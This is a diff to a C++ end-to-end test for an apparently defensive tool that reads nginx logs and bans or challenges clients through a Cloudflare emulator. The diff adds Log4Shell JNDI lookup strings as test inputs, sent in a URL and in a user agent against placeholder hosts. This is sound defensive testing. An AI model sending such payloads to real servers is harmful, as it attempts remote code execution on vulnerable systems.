@@ -6,11 +6,15 @@
 // for from nginx, which decodes the path before it picks the file, and must be banned as the
 // same probes written plainly would be; a client whose escapes are encoded twice
 // ("/.%2565nv": nginx looks for a file named ".%65nv") probed nothing and is not.
+// What a page can make a visitor's browser send (a URL, a referer) is answered with a managed
+// challenge, through an access rule: a forum post embedding <img src="/?q=${jndi:...}"> must not
+// ban its readers. A payload in the user agent, which no page can set, is blocked (the IP list).
 #include <unistd.h>
 
 #include <cstdio>
 #include <cstdlib>
 #include <fstream>
+#include <map>
 #include <set>
 #include <string>
 
@@ -18,6 +22,7 @@
 #include "absl/time/time.h"
 #include "grpcpp/grpcpp.h"
 #include "gtest/gtest.h"
+#include "nlohmann/json.hpp"
 #include "palisade/v1/palisade.grpc.pb.h"
 #include "tests/e2e/daemon.h"
 
@@ -28,6 +33,7 @@ using ::palisade::testing::ActionsPending;
 using ::palisade::testing::Daemon;
 using ::palisade::testing::Emulator;
 using ::palisade::testing::EmulatorListedValues;
+using ::palisade::testing::EmulatorState;
 using ::palisade::testing::FreeLoopbackPort;
 using ::palisade::testing::RunShell;
 using ::palisade::testing::WaitFor;
@@ -35,6 +41,22 @@ using ::palisade::testing::WaitFor;
 constexpr char kNginx[] = "/usr/sbin/nginx";
 constexpr char kScanner[] = "198.51.100.77";
 constexpr char kDoubleEncoder[] = "198.51.100.78";
+constexpr char kVisitor[] = "198.51.100.79";        // a browser made to send a payload
+constexpr char kAgentAttacker[] = "198.51.100.80";  // a payload in its user agent
+constexpr char kChrome[] =
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Chrome/124.0 Safari/537.36";
+
+// The emulator's access rules as value -> mode.
+std::map<std::string, std::string> AccessRuleModes(const Emulator& emulator) {
+  std::map<std::string, std::string> out;
+  nlohmann::json state = EmulatorState(emulator);
+  if (!state.is_object() || !state.contains("access_rules")) return out;
+  for (const auto& r : state["access_rules"]) {
+    out[r["configuration"]["value"].get<std::string>()] = r["mode"].get<std::string>();
+  }
+  return out;
+}
 
 // nginx (its master and one worker) serving `root` on 127.0.0.1:port, writing `access_log`;
 // stopped when this goes.
@@ -75,13 +97,18 @@ class Nginx {
   bool started() const { return started_; }
   const std::string& output() const { return output_; }
 
-  // GET `path` as written (curl --path-as-is), from `client` as Cloudflare would name it: the
-  // status code nginx answered.
-  std::string Get(const std::string& path, const std::string& client) const {
+  // GET `path` as written (curl --path-as-is, no globbing of {}), from `client` as Cloudflare
+  // would name it, with `agent` and `referer` when not empty: the status code nginx answered.
+  // None of the strings may hold a single quote (they are quoted for the shell).
+  std::string Get(const std::string& path, const std::string& client,
+                  const std::string& agent = "", const std::string& referer = "") const {
     int code = -1;
-    return RunShell(absl::StrCat("curl -s --path-as-is -o /dev/null -w '%{http_code}' -H "
+    return RunShell(absl::StrCat("curl -s -g --path-as-is -o /dev/null -w '%{http_code}' -H "
                                  "'CF-Connecting-IP: ",
-                                 client, "' 'http://127.0.0.1:", port_, path, "'"),
+                                 client, "'", agent.empty() ? "" : " -A '", agent,
+                                 agent.empty() ? "" : "'", referer.empty() ? "" : " -e '",
+                                 referer, referer.empty() ? "" : "'", " 'http://127.0.0.1:",
+                                 port_, path, "'"),
                     &code);
   }
 
@@ -125,11 +152,28 @@ TEST(NginxE2eTest, EncodedLettersDoNotHideAScannerEncodedTwiceTheyProbeNothing) 
     EXPECT_EQ(nginx.Get(path, kScanner), "200") << path;
   }
 
-  // The scanner reaches the edge's IP list (web-sensitive-file-probe's actuator).
-  const bool banned = WaitFor(
-      [&] { return EmulatorListedValues(**cf).count(kScanner) == 1 && ActionsPending(**daemon) == 0; },
+  // A reader of a page that embeds a Log4Shell URL: the browser sends it, with the page as the
+  // referer. And a client with the lookup in its user agent, which no page can set.
+  EXPECT_FALSE(nginx.Get("/?q=${jndi:ldap://x.example/a}", kVisitor, kChrome,
+                         "https://forum.example/t/123")
+                   .empty());
+  EXPECT_FALSE(nginx.Get("/", kAgentAttacker, "${jndi:ldap://192.0.2.66:1389/a}").empty());
+
+  // The scanner (web-sensitive-file-probe) and the visitor (web-log4shell) get a managed
+  // challenge through an access rule; the user-agent payload (web-log4shell-agent) a block on
+  // the edge's IP list.
+  std::map<std::string, std::string> modes;
+  const bool decided = WaitFor(
+      [&] {
+        modes = AccessRuleModes(**cf);
+        return modes.count(kScanner) == 1 && modes.count(kVisitor) == 1 &&
+               EmulatorListedValues(**cf).count(kAgentAttacker) == 1 &&
+               ActionsPending(**daemon) == 0;
+      },
       absl::Seconds(60));
-  ASSERT_TRUE(banned) << ::palisade::testing::EmulatorState(**cf).dump(2);
+  ASSERT_TRUE(decided) << EmulatorState(**cf).dump(2);
+  EXPECT_EQ(modes, (std::map<std::string, std::string>{{kScanner, "managed_challenge"},
+                                                       {kVisitor, "managed_challenge"}}));
   // The double encoder's lines came first in the file, so they were read: nothing decided.
   auto channel = grpc::CreateChannel((*daemon)->grpc_address(), grpc::InsecureChannelCredentials());
   grpc::ClientContext ctx;
@@ -138,7 +182,7 @@ TEST(NginxE2eTest, EncodedLettersDoNotHideAScannerEncodedTwiceTheyProbeNothing) 
   palisade::v1::ListDecisionsResponse response;
   ASSERT_TRUE(palisade::v1::Decisions::NewStub(channel)->List(&ctx, request, &response).ok());
   EXPECT_EQ(response.decisions_size(), 0) << response.DebugString();
-  EXPECT_EQ(EmulatorListedValues(**cf), std::set<std::string>{kScanner});
+  EXPECT_EQ(EmulatorListedValues(**cf), std::set<std::string>{kAgentAttacker});
 }
 
 }  // namespace
